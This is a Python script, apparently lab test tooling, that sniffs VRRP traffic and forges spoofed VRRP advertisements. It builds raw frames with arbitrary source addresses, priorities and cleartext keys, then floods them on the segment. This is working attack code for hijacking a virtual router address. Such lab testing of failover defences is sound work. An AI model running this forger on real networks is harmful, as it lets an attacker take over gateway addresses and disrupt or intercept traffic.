"""What an attacker on a lab segment does, as a script run inside a lab node
(python3 is in every node): listen for VRRP, forge VRRP adverts.

    python3 attacker.py sniff IFACE SECONDS CONTROL_SOURCE
        -> JSON {"vrrp": [source, ...], "control": packets from CONTROL_SOURCE}
    python3 attacker.py forge IFACE COUNT ADVERTS
        ADVERTS: a JSON list of {dest, version, vrid, priority, source, key, vips}
        -> JSON {"sent": frames}

DEST is VRRP's multicast group 224.0.0.18 or a director's own address (the
frame then goes to that address's MAC, found by ARP).

Frames are built whole (Ethernet, IPv4, VRRP) on a packet socket, so the
source address can be any, as a forger on the segment would make it.
Everything stays on the lab's own segment: the multicast group 224.0.0.18
is link-local and the frames carry TTL 255 (what VRRP requires).
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
VRRP_PROTO = 112
VRRP_GROUP = "224.0.0.18"
GROUP_MAC = bytes.fromhex("01005e000012")


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def vrrp_message(version: int, vrid: int, priority: int, vips: list[str], source: str, key: str, dest: str) -> bytes:
    addresses = b"".join(socket.inet_aton(v) for v in vips)
    if version == 2:
        # Type 1 (advert), simple text authentication (1), 1 s adverts, the key in clear.
        head = struct.pack("!BBBBBBH", 0x21, vrid, priority, len(vips), 1, 1, 0)
        body = head + addresses + key.encode()[:8].ljust(8, b"\0")
        return body[:6] + struct.pack("!H", checksum(body)) + body[8:]
    # Version 3: no authentication; 100 cs adverts; the checksum covers a pseudo header.
    head = struct.pack("!BBBBHH", 0x31, vrid, priority, len(vips), 100, 0)
    body = head + addresses
    pseudo = socket.inet_aton(source) + socket.inet_aton(dest) + struct.pack("!BBH", 0, VRRP_PROTO, len(body))
    return body[:6] + struct.pack("!H", checksum(pseudo + body)) + body[8:]


def frame(message: bytes, source: str, dest: str, dest_mac: bytes, mac: bytes) -> bytes:
    addresses = socket.inet_aton(source) + socket.inet_aton(dest)
    header = struct.pack("!BBHHHBBH", 0x45, 0xC0, 20 + len(message), 0, 0, 255, VRRP_PROTO, 0) + addresses
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return dest_mac + mac + struct.pack("!H", ETH_P_IP) + header + message


def mac_of(address: str) -> bytes:
    """The MAC of a neighbour, after a datagram that makes the kernel ask ARP."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"", (address, 9))
    for _ in range(20):
        time.sleep(0.1)
        with open("/proc/net/arp", encoding="ascii") as handle:
            for line in handle.read().splitlines()[1:]:
                fields = line.split()
                if fields[0] == address and fields[3] != "00:00:00:00:00:00":
                    return bytes.fromhex(fields[3].replace(":", ""))
    raise SystemExit(f"no ARP answer from {address}")


def forge(iface: str, count: int, adverts: list[dict]) -> dict:
    """``count`` rounds, 0.1 s apart (an advert interval), each sending one
    frame of every forged advert: {dest, version, vrid, priority, source,
    key, vips}."""
    macs: dict[str, bytes] = {}
    packets = []
    for advert in adverts:
        dest, vrid = advert["dest"], int(advert["vrid"])
        if dest not in macs:
            macs[dest] = GROUP_MAC if dest == VRRP_GROUP else mac_of(dest)
        # The VRRP virtual MAC of this router id, as a real VRRP router sends from.
        mac = bytes.fromhex(f"00005e0001{vrid:02x}")
        message = vrrp_message(
            int(advert["version"]), vrid, int(advert["priority"]), advert["vips"], advert["source"], advert["key"], dest
        )
        packets.append(frame(message, advert["source"], dest, macs[dest], mac))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((iface, 0))
        for _ in range(count):
            for packet in packets:
                sock.send(packet)
            time.sleep(0.1)
    return {"sent": count * len(packets)}


def sniff(iface: str, seconds: float, control: str) -> dict:
    seen: list[str] = []
    controls = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP)) as sock:
        sock.bind((iface, 0))
        sock.settimeout(0.2)
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            try:
                data, meta = sock.recvfrom(65535)
            except TimeoutError:
                continue
            if meta[2] == socket.PACKET_OUTGOING or len(data) < 34:
                continue
            source = socket.inet_ntoa(data[26:30])
            if data[23] == VRRP_PROTO:
                seen.append(source)
            elif source == control:
                controls += 1
    return {"vrrp": seen, "control": controls}


def main(argv: list[str]) -> None:
    if argv[0] == "sniff":
        print(json.dumps(sniff(argv[1], float(argv[2]), argv[3])))
    elif argv[0] == "forge":
        print(json.dumps(forge(argv[1], int(argv[2]), json.loads(argv[3]))))
    else:
        raise SystemExit(f"unknown command {argv[0]!r}")


if __name__ == "__main__":
    main(sys.argv[1:])
